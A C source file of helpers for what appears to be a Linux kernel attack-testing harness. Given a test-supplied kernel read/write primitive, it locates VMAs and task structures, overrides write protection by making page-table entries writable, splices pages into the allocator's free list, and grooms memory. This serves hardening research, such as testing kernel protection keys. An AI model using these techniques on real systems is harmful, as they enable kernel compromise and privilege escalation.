// SPDX-License-Identifier: GPL-2.0-only
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>

#include "attack.h"
#include "corrupt.h"
#include "objects.h"

#define MAX_WORDS	1024
#define NODE_WORDS	32	/* of a maple tree */
#define NODE_BIT	4UL	/* in a pointer to one */
#define NODE_ALIGN	256UL
#define MAX_DEPTH	5
#define PATIENCE	5000	/* milliseconds */
#define LARGEST_ORDER	10
#define CHUNK_ORDER	3	/* the pool takes these when there is nothing larger */
#define HOLE_ORDER	2
#define HOLES		10240	/* and as many that are held */
#define TRIES		50
#define AT_ONCE		128

#define NR_SAVED	1	/* byte of kpkeys_cpu: interrupted sections */
#define FRAMES		"kpkeys_frames"	/* a pointer to pointers to pages, a byte for each frame */

bool is_kernel_address(uint64_t value)
{
	return value >> 56 == 0xff && value < -PAGE_SIZE;
}

uint64_t find_pointer_into(uint64_t from, size_t size, uint64_t start, size_t len)
{
	uint64_t words[MAX_WORDS];
	size_t i;

	if (size > sizeof(words) || kread(from, words, size))
		return 0;
	for (i = 0; i < size / sizeof(*words); i++)
		if (words[i] - start < len)
			return from + i * sizeof(*words);
	return 0;
}

uint64_t find_word(uint64_t from, size_t size, uint64_t value)
{
	return find_pointer_into(from, size, value, 1);
}

uint64_t zero_page_at(void)
{
	return ksymbol("zero_pfn") ?: ksymbol("zero_page_pfn");
}

static void on_alarm(int signal)
{
	(void)signal;
}

void heed_alarms(void)
{
	signal(SIGALRM, on_alarm);
}

void alarm_every(unsigned int microseconds)
{
	struct itimerval interval = { { 0, microseconds }, { 0, microseconds } };

	setitimer(ITIMER_REAL, &interval, NULL);
}

/* What the task points to that has the handler. */
uint64_t find_signal_lock(const struct task *task)
{
	static uint64_t words[TASK_WORDS];
	size_t i;

	kread(task->task, words, sizeof(words));
	for (i = 0; i < TASK_WORDS; i++)
		if (is_kernel_address(words[i]) &&
		    find_word(words[i], SIGHAND_SIZE, (uint64_t)on_alarm))
			return words[i];
	return 0;
}

void have_own_pages(void)
{
	FILE *maps = fopen("/proc/self/maps", "re");
	unsigned long start, end, at;
	char line[512], how[8];

	while (maps && fgets(line, sizeof(line), maps))
		if (sscanf(line, "%lx-%lx %7s", &start, &end, how) == 3 && !strcmp(how, "rw-p") &&
		    (end <= (unsigned long)sbrk(0) || strstr(line, "[stack]")))
			for (at = start; at < end; at += PAGE_SIZE)
				*(volatile char *)at = *(volatile char *)at;
	if (maps)
		fclose(maps);
}

void set_lock(uint64_t lock, bool held)
{
	char byte = held;

	if (held)
		have_own_pages();
	kwrite(lock, &byte, sizeof(byte));
}

bool has_hit_section(int cpu)
{
	uint8_t nr = 0;

	kread(ksymbol_cpu("kpkeys_cpu", cpu) + NR_SAVED, &nr, sizeof(nr));
	return nr;
}

uint64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

uint64_t frame_at(uint64_t pfn)
{
	uint64_t frames = ksymbol(FRAMES);
	uint64_t page = frames ? kread64(kread64(frames) + pfn / PAGE_SIZE * sizeof(page)) : 0;

	return page ? page + pfn % PAGE_SIZE : 0;
}

uint8_t frame_of(uint64_t phys)
{
	uint8_t frame = FRAME_ORDINARY;

	kread(frame_at(phys / PAGE_SIZE), &frame, sizeof(frame));
	return frame;
}

uint64_t frame_of_text(void)
{
	return frame_at(text_phys() / PAGE_SIZE);
}

/* It begins with vm_start, vm_end, vm_mm. */
static bool is_vma_of(uint64_t at, uint64_t mm, uint64_t addr)
{
	uint64_t words[3];

	if (at % sizeof(*words) || !is_kernel_address(at) || kread(at, words, sizeof(words)))
		return false;
	return words[0] <= addr && addr < words[1] && words[2] == mm;
}

/* The first word of a node leads up again. */
static uint64_t search_node(uint64_t node, uint64_t mm, uint64_t addr, int depth)
{
	uint64_t words[NODE_WORDS], vma = 0;
	int i;

	if (!depth || !is_kernel_address(node) || !(node & NODE_BIT) ||
	    kread(node & -NODE_ALIGN, words, sizeof(words)))
		return 0;
	for (i = 1; i < NODE_WORDS && !vma; i++)
		vma = is_vma_of(words[i], mm, addr) ? words[i] :
		      search_node(words[i], mm, addr, depth - 1);
	return vma;
}

uint64_t find_vma(const volatile void *addr)
{
	uint64_t at, vma = 0;
	struct task task;

	if (ktask(0, &task))
		return 0;
	for (at = task.mm; at < task.mm + NODE_ALIGN && !vma; at += sizeof(at))
		vma = search_node(kread64(at), task.mm, (uint64_t)addr, MAX_DEPTH);
	return vma;
}

uint64_t page_of(uint64_t addr)
{
	struct slot slot;

	return kwalk(addr, LEAF, 0, &slot) ? 0 : slot.page;
}

bool kernel_page(struct kernel_page *page)
{
	char zero[PAGE_SIZE];
	struct slot slot;

	if (corrupt_command("alloc order=0"))
		return false;
	page->addr = corrupt_answer("address");
	page->page = corrupt_answer("page");
	memset(zero, 0, sizeof(zero));
	if (kwalk(page->addr, LEAF, 0, &slot))
		return false;
	page->phys = slot.phys;
	return !kwrite(page->addr, zero, sizeof(zero));
}

uint64_t writable_protection(void)
{
	void *shared = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	uint64_t vma = find_vma(shared);
	uint64_t protection = vma ? kread64(vma + VMA_PROT) : 0;

	munmap(shared, PAGE_SIZE);
	return protection;
}

int add_reference(uint64_t page, int nr)
{
	int count;

	if (kread(page + PAGE_REFCOUNT, &count, sizeof(count)))
		return -1;
	count += nr;
	return kwrite(page + PAGE_REFCOUNT, &count, sizeof(count));
}

/*
 * Free two: each command may take the first one for a slab and give it back, and so
 * the other one heads a list of this CPU or of all. Returns the list, or 0.
 */
static uint64_t free_two(int order, uint64_t *freed)
{
	uint64_t pages[2], head;
	int i;

	for (i = 0; i < 2; i++) {
		if (corrupt_command("alloc order=%d", order))
			return 0;
		pages[i] = corrupt_answer("page");
	}
	if (corrupt_command("free count=2"))
		return 0;
	for (i = 0; i < 2; i++) {
		*freed = pages[i];
		head = kread64(*freed + PAGE_LRU + 8);
		if (kread64(head) == *freed + PAGE_LRU)
			return head;
	}
	return 0;
}

/* Puts ours ahead of it. */
int put_on_free_list(uint64_t page, int order)
{
	uint64_t freed, head = 0;
	int err, i;

	/* Or whoever had it is charged with what it becomes; a huge page as a whole. */
	for (i = 0; i < (order > CHUNK_ORDER ? 1 : 1 << order); i++)
		kwrite64(page + i * STRUCT_PAGE + PAGE_MEMCG, 0);
	/* From here on at once: the kernel may take the first one away. */
	for (i = 0; i < TRIES && !head; i++)
		head = free_two(order, &freed);
	if (!head)
		return -1;
	err = kwrite64(page + PAGE_LRU, freed + PAGE_LRU);
	err = err ?: kwrite64(page + PAGE_LRU + 8, head);
	err = err ?: kwrite64(freed + PAGE_LRU + 8, page + PAGE_LRU);
	return err ?: kwrite64(head, page + PAGE_LRU);
}

bool is_protected(void)
{
	return !corrupt_command("register") && corrupt_answer("shut");
}

bool is_since(int major, int minor)
{
	struct utsname name;
	int has_major, has_minor;

	return !uname(&name) && sscanf(name.release, "%d.%d", &has_major, &has_minor) == 2 &&
	       (has_major > major || (has_major == major && has_minor >= minor));
}

bool was_killed(pid_t pid)
{
	int status;

	return waitpid(pid, &status, WNOHANG) == pid && WIFSIGNALED(status);
}

int store_constant(uint64_t addr, uint64_t value)
{
	int err = kwrite64(addr, value);
	struct slot slot;

	if (err != -EFAULT || is_protected() || kwalk(addr, LEAF, 0, &slot) ||
	    kwrite64(slot.slot, pte_make_writable(slot.value)))
		return err;
	flush_tlb();
	err = kwrite64(addr, value);
	kwrite64(slot.slot, slot.value);
	return err;
}

/* The kernel keeps the last blocks for itself as long as nothing else is free. */
void use_up_blocks(void)
{
	int order, i;

	corrupt_command("alloc order=%d count=%d", CHUNK_ORDER, AT_ONCE);
	for (i = 0; i < HOLES / AT_ONCE; i++)
		corrupt_command("alloc order=%d count=%d", HOLE_ORDER, AT_ONCE);
	/* First, or who needs a page meanwhile has somebody killed. */
	corrupt_command("free holes=1 order=%d", HOLE_ORDER);
	for (order = LARGEST_ORDER; order > CHUNK_ORDER; order--)
		while (!corrupt_command("alloc order=%d", order))
			;
	corrupt_command("free holes=1 order=%d", CHUNK_ORDER);
}

bool wait_for_flag(const volatile bool *flag)
{
	uint64_t end = now_ms() + PATIENCE;

	while (!*flag && now_ms() < end)
		usleep(1000);
	return *flag;
}

#ifdef __x86_64__
/* One structure of Linux 6.12 has all three, which newer ones have as variables. */
#define CPU_HOT		"pcpu_hot"
#define HOT_SIZE	64
#define HOT_COUNT	8

uint64_t cpu_current(int cpu)
{
	return ksymbol_cpu(known_symbol(CPU_HOT, "current_task"), cpu);
}

uint64_t cpu_preempt_count(int cpu)
{
	uint64_t hot = ksymbol_cpu(CPU_HOT, cpu);

	return hot ? hot + HOT_COUNT : ksymbol_cpu("__preempt_count", cpu);
}

uint64_t cpu_stack_end(int cpu, uint64_t end)
{
	uint64_t hot = ksymbol_cpu(CPU_HOT, cpu);

	if (hot)
		return find_word(hot, HOT_SIZE, end);
	hot = ksymbol_cpu("cpu_current_top_of_stack", cpu);
	return kread64(hot) == end ? hot : 0;
}
#else
uint64_t cpu_current(int cpu)
{
	return ksymbol_cpu("__entry_task", cpu);
}
#endif
